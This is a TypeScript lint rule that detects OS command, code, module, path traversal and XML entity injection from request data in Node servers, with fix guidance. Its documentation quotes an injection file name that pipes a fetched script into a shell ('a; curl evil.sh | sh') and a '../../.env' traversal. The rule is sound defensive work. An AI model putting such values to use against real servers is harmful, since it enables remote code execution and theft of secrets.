import {
  answerMethodOf,
  checkOfPart,
  defineRule,
  isChecked,
  isLookedUp,
  keepsBelowFolder,
  looksOnItsWay,
  nameOfRequestValue,
  type Passing,
  type ProjectModel,
  propertyOf,
  type RequestText,
  type ResolvedCall,
  requestTextsIn,
  runAsFile,
  type SinkCall,
  sinkOf,
  type TypeScriptFacts,
  type Value,
  wayFromRequest,
} from '#rule-api';

export default defineRule({
  kind: 'project',
  id: 'security/os-injection',
  statement: 'No request decides which command, code or file a server uses.',
  severity: 'error',
  preset: 'recommended',
  guidance: 'Security',
  standards: [
    { name: 'CWE-78: OS command injection', url: 'https://cwe.mitre.org/data/definitions/78.html' },
    { name: 'CWE-94: Code injection', url: 'https://cwe.mitre.org/data/definitions/94.html' },
    { name: 'CWE-611: XML external entities', url: 'https://cwe.mitre.org/data/definitions/611.html' },
    { name: 'CWE-22: Path traversal', url: 'https://cwe.mitre.org/data/definitions/22.html' },
  ],
  options: {},
  messages: {
    command:
      '`{{value}}` comes from the request and becomes part of a command, so whoever sends it runs commands on this machine. Use `execFile` with a list of arguments.',
    program:
      '`{{value}}` comes from the request and decides which program runs. Choose from a list of programs that the code names.',
    code: '`{{value}}` comes from the request and is run as code. Read data with `JSON.parse`, or choose from functions that the code names.',
    module:
      '`{{value}}` comes from the request and decides which module is loaded and run. Choose from a list of modules.',
    path: '`{{value}}` comes from the request and becomes part of a path, so `../` in it leads to any file. Take `path.basename(…)` of it, or check that the resolved path stays below its folder.',
    entities:
      '`{{value}}` comes from the request, and with `noent` its XML names files that are read into it. Leave `noent` out.',
  },
  docs: {
    why: `A shell, an evaluator and the file system all do as they are told. A file name such as \`a; curl evil.sh | sh\` runs whatever follows the semicolon; \`../../.env\` hands out the secrets of the server; a template that a client writes can call any function of Node. One such place gives away the machine, not just a row of data.`,
    howToFix: `Commands: \`execFile\` or \`spawn\` with a list of arguments and without a shell, so that each argument stays one. Files: take \`path.basename(name)\`, or resolve the path and check that it begins with the folder; Express's \`sendFile(name, { root })\` does it. Code and modules: look up a name in a table of what is allowed. Templates: keep their text constant and pass values as data.`,
    whenNotToFollow: `Where running what somebody sends is the purpose, such as in a sandbox for code, suppress the rule and say what contains it. The rule is silent where a value is held against a list or a pattern in the same function, or where a schema checks that part of the request, or, for files, where a row was read under that id before.`,
  },
  examples: () => import('./os-injection.examples.ts'),
  check({ path, facts, model, report }) {
    for (const call of model.calls(path)) {
      for (const { given, kind, passing, sink } of risksOf(call, facts, model)) {
        const [text] = requestTextsIn(given, path, model, passing).filter(
          found => !isHarmless(found, kind, call, facts, model),
        );
        if (text === undefined) continue;
        const edits = kind === 'command' && sink !== undefined ? runAsFile(sink, facts) : undefined;
        report({
          message: kind,
          at: text.value.span,
          data: { value: nameOfRequestValue(text.value, text.source, facts) },
          related: wayFromRequest(text.source, model),
          fixes:
            edits === undefined
              ? []
              : [{ title: 'Run the program with a list of arguments', kind: 'suggestion', edits }],
        });
      }
    }
  },
});

interface Risk {
  readonly kind: 'command' | 'program' | 'code' | 'module' | 'path' | 'entities';
  readonly given: Value | undefined;
  readonly passing?: Passing;
  readonly sink?: SinkCall;
}

function risksOf(call: ResolvedCall, facts: TypeScriptFacts, model: ProjectModel): readonly Risk[] {
  const sink = sinkOf(call, model);
  if (sink === undefined) return sentFile(call, model);
  const { given } = sink;
  switch (sink.sink.kind) {
    case 'command':
      return [{ kind: 'command', given, sink }];
    case 'program': {
      const program: Risk = { kind: 'program', given };
      return runsShell(sink, facts)
        ? [program, { kind: 'command', given: call.fact.arguments[1] }]
        : [program];
    }
    case 'code':
    case 'template':
      return [{ kind: 'code', given }];
    case 'module':
      return [{ kind: 'module', given, passing: joinsPaths }];
    case 'path':
      return [{ kind: 'path', given, passing: joinsPaths }];
    case 'document':
      return readsEntities(sink) ? [{ kind: 'entities', given }] : [];
    case 'markup':
    case 'address':
    case 'redirect':
      return [];
  }
}

/** `res.sendFile(path)` and `res.download(path)`, unless they are told below which folder to stay. */
function sentFile(call: ResolvedCall, model: ProjectModel): readonly Risk[] {
  const name = call.fact.callee?.path.at(-1);
  if (name !== 'sendFile' && name !== 'download') return [];
  const [given, ...others] = call.fact.arguments;
  const hasOptions = others.some(value => value.kind === 'object' || value.kind === 'reference');
  const answer = answerMethodOf(call, model);
  return answer?.framework !== 'express' || hasOptions ? [] : [{ kind: 'path', given, passing: joinsPaths }];
}

/** `spawn(command, { shell: true })`, `spawn('sh', ['-c', command])` */
function runsShell({ call }: SinkCall, facts: TypeScriptFacts): boolean {
  const [program, list] = call.fact.arguments;
  const isShell =
    program?.kind === 'literal' && /(?:^|\/)(?:ba|z|da)?sh$|^cmd(?:\.exe)?$/.test(String(program.value));
  const [flag] = list?.kind === 'array' ? list.elements : [];
  if (isShell) return flag?.kind === 'literal' && /^(?:-c|\/c)$/i.test(String(flag.value));
  return facts.calls[call.index] === call.fact && call.fact.arguments.some(opensShell);
}

/** `{ noent: true }` puts in whatever file an entity of the document names. */
function readsEntities({ call, sink }: SinkCall): boolean {
  const options = sink.options === undefined ? undefined : call.fact.arguments[sink.options];
  const asked =
    options === undefined
      ? undefined
      : (propertyOf(options, 'noent') ?? propertyOf(options, 'replaceEntities'));
  return asked?.kind === 'literal' && asked.value === true;
}

function opensShell(value: Value): boolean {
  const shell = propertyOf(value, 'shell');
  return shell?.kind === 'literal' && shell.value !== false && shell.value !== null;
}

/** `path.join(folder, name)` gives a path with the name in it; `path.basename(name)` gives none with `../`. */
const joinsPaths: Passing = (call, name) =>
  name === 'join' || name === 'resolve' || name === 'normalize' ? call.arguments : undefined;

function isHarmless(
  text: RequestText,
  kind: Risk['kind'],
  call: ResolvedCall,
  facts: TypeScriptFacts,
  model: ProjectModel,
): boolean {
  if (isChecked(text, call.fact, facts)) return true;
  if (kind === 'path' && isHarmlessPath(text, call, facts, model)) return true;
  return checkOfPart(text.source, model) === 'yes';
}

function isHarmlessPath(
  text: RequestText,
  call: ResolvedCall,
  facts: TypeScriptFacts,
  model: ProjectModel,
): boolean {
  return (
    text.source.part === 'address' ||
    looksOnItsWay(text, call.fact, facts, model, keepsBelowFolder) ||
    isLookedUp(text, call, model)
  );
}
